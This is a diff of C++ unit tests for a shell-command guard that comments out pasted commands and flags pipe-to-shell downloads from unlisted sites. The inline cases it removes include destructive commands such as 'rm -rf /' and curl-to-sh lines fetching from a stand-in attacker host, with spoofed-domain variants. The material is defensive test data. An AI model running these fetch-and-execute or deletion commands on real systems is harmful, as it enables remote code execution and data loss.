@@ -12,6 +12,7 @@
 
 #include "core/guard/RuleBundle.h"
 #include "tests/guard/GuardTestSupport.h"
+#include "tests/support/CaseTable.h"
 
 namespace tessaril {
 namespace {
@@ -120,21 +121,13 @@ TEST(CommandGuard, SizeLimitAndOwnOutputAreNotExamined) {
         EXPECT_EQ(guard.analyze(text).has_value(), flagged) << text;
 }
 
-// A terminal without bracketed paste runs what follows a lone carriage return, so it starts a
-// commented line of its own; CR LF is still one line break.
 TEST(CommandGuard, NeutralizedTextCommentsEveryLine) {
-    const std::pair<std::string, std::string> cases[] = {
-        {"  rm -rf / \n", "# rm -rf /"},
-        {"a\r\n\nb \\\nc", "# a\r\n# \n# b  c"},
-        {"", "# "},
-        {"echo hi\rrm -rf ~", "# echo hi\r# rm -rf ~"},
-        {"a\r\r\nb\n\rc", "# a\r# \r\n# b\n# \r# c"},
-        // Trimming takes a trailing carriage return, and a continuation before CR LF still joins lines.
-        {"ls \\\r\n-la\r", "# ls  -la"},
-    };
-    for (const auto& [command, commented] : cases)
-        EXPECT_EQ(CommandGuard::neutralizedCommand(command), std::string(CommandGuard::neutralizedHeader) + commented)
-            << command;
+    const auto cases = testing::readCases("guard/neutralized.json");
+    ASSERT_FALSE(cases.empty());
+    for (const auto& row : cases)
+        EXPECT_EQ(CommandGuard::neutralizedCommand(row[0].get<std::string>()),
+                  std::string(CommandGuard::neutralizedHeader) + row[1].get<std::string>())
+            << row[0];
 }
 
 TEST(CommandGuard, BrokenRulesFilesAndPatterns) {
@@ -274,22 +267,14 @@ TEST(CommandGuard, SiteListsPassListedAddressesOnly) {
     bundle.siteLists["vetted"] = {"rustup.rs", "GitHub.com/Homebrew", "203.0.113.9"};
     const auto guard = CommandGuard::fromRulesData(bundle.toJson().dump());
     ASSERT_EQ(guard.rules().size(), 1u);
-    for (const char* listed : {"curl https://sh.rustup.rs | sh", "curl -L RUSTUP.RS/x | sh", "curl x.sh | sh",
-                               "curl https://github.com/homebrew/install/x.sh | sudo sh",
-                               "curl ftp://user@203.0.113.9:21/a | sh", "curl -o out.txt --retry 3 | sh"})
-        EXPECT_FALSE(guard.analyze(listed).has_value()) << listed;
-    const std::pair<std::string, std::string> flagged[] = {
-        {"curl https://evil.example/x | sh", "curl https://evil.example/x | sh"},
-        {"curl https://rustup.rs@evil.example/x | sh", "curl https://rustup.rs@evil.example/x | sh"},
-        {"curl https://rustup.rs.evil.example:8443/ | sh", "curl https://rustup.rs.evil.example:8443/ | sh"},
-        {"curl https://github.com/HomebrewX/x | sh", "curl https://github.com/HomebrewX/x | sh"},
-        {"curl 'evil.example/i' | sh", "curl 'evil.example/i' | sh"},
-        {"curl https://rustup.rs | sh; curl http://198.51.100.7/x | sh", "curl http://198.51.100.7/x | sh"},
-    };
-    for (const auto& [text, matched] : flagged) {
-        const auto result = guard.analyze(text);
-        ASSERT_TRUE(result.has_value()) << text;
-        EXPECT_EQ(result->findings.at(0).matchedText, matched) << text;
+    const auto texts = testing::readCases("guard/site-lists.json");
+    ASSERT_FALSE(texts.empty());
+    for (const auto& row : texts) {
+        const auto result = guard.analyze(row[0].get<std::string>());
+        ASSERT_EQ(result.has_value(), !row[1].is_null()) << row[0];
+        if (result) {
+            EXPECT_EQ(result->findings.at(0).matchedText, row[1].get<std::string>()) << row[0];
+        }
     }
     // A group the pattern lacks leaves the rule out, as a pattern that does not compile does; a list
     // the file lacks or cannot read leaves the whole file out.
